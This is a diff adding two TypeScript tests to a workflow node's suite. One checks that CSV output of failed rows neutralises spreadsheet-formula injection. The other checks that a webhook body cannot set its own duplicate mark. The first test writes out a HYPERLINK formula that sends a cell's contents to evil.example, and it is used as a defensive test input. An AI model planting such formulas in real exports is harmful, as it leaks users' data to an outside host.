@@ -52,6 +52,25 @@ describe('review44: Read Rows From a CSV File', () => {
 		await f.env.runWorkflow(workflowWithFiles([file(1), file(2)], STOCK_CSV));
 		expect(rowsSent(f).filter((row) => row.partner_sku === 'SKU-9')).toHaveLength(1);
 	});
+	it("a hostile service's status_code never reaches failedRows.csv as a spreadsheet formula", async () => {
+		const code = '=HYPERLINK("https://evil.example/?"&B2,"Fix")';
+		const items = [
+			{ warehouse_code: DXB, partner_sku: 'SKU-1', status: { status_code: code, message: 'no' } },
+		];
+		f.emulator.injectFaults({ count: 1, operation: 'UpdateStock', answer: { set: { items } } });
+		const text = `warehouse_code,partner_sku,qty\n${DXB},SKU-1,5\n`;
+		const result = await f.env.runWorkflow(
+			workflowWithFiles([{ text }], STOCK_CSV, { continueOnFail: true }),
+		);
+		const [out] = result.outputs(NODE);
+		const file = Buffer.from(out.binary!.failedRows.data, 'base64').toString('utf8');
+		const cells = file
+			.split('\n')[1]
+			.match(/("([^"]|"")*"|[^,]*)/g)!
+			.filter((cell) => cell !== '');
+		// Each cell as a sheet reads it: none starts with = + - @ (OWASP CSV injection).
+		for (const cell of cells) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@]/);
+	});
 });
 
 describe('review44: the webhook trigger possibleDuplicate mark', () => {
@@ -94,5 +113,31 @@ describe('review44: the webhook trigger possibleDuplicate mark', () => {
 		expect(response.status).toBe(200);
 		const [execution] = await handle.waitForExecutions(1);
 		expect(execution.json(TRIGGER)[0].possibleDuplicate).toBe(true);
+	});
+	it('a fresh delivery whose body carries its own "possibleDuplicate" comes without the mark ("the field is absent otherwise")', async () => {
+		startNewLifeForTests(HOUR);
+		const handle = await activations.activate(f.env, triggerWorkflow());
+		const secret = f.emulator
+			.destinations()
+			.find((d) => d.destination_code === SEEDED_DESTINATIONS.active)!.credentials[DELIVERY_HEADER];
+		const body = {
+			event_schema_version: '1.0',
+			event_type: ORDER_SYNC,
+			possibleDuplicate: true,
+			metadata: {
+				message_id: 'review44-own-mark',
+				project_code: f.emulator.projectCode,
+				published_at: new Date().toISOString(),
+			},
+			payload: { order_nr: 'FBPI-4402' },
+		};
+		const response = await fetch(handle.webhookUrl, {
+			method: 'POST',
+			headers: { 'Content-Type': 'application/json', [DELIVERY_HEADER]: secret },
+			body: JSON.stringify(body),
+		});
+		expect(response.status).toBe(200);
+		const [execution] = await handle.waitForExecutions(1);
+		expect(execution.json(TRIGGER)[0].possibleDuplicate).toBeUndefined();
 	});
 });
